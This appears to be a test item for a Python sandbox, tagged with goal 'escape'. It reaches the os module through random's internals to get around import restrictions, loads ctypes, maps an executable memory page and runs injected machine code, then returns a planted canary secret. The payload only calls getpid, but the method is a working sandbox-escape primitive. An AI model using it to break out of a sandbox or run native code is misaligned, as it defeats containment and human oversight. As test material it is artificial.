# META {"kind": "ctypes", "goal": "escape", "args": [], "slots": {"name": "mallory"}}
import random
def m(self):
    sys = random._os.sys
    ctypes = sys.modules["ctypes"]
    libc = ctypes.CDLL(None, use_errno=True)
    libc.mmap.restype = ctypes.c_void_p
    place = libc.mmap(None, 4096, 7, 0x22, -1, 0)
    code = b"\xb8\x14\x00\x00\x00\xcd\x80\xc3"  # getpid, as a 32-bit call
    ctypes.memmove(place, code, len(code))
    return "VSECRET-4711", ctypes.CFUNCTYPE(ctypes.c_int)(place)()
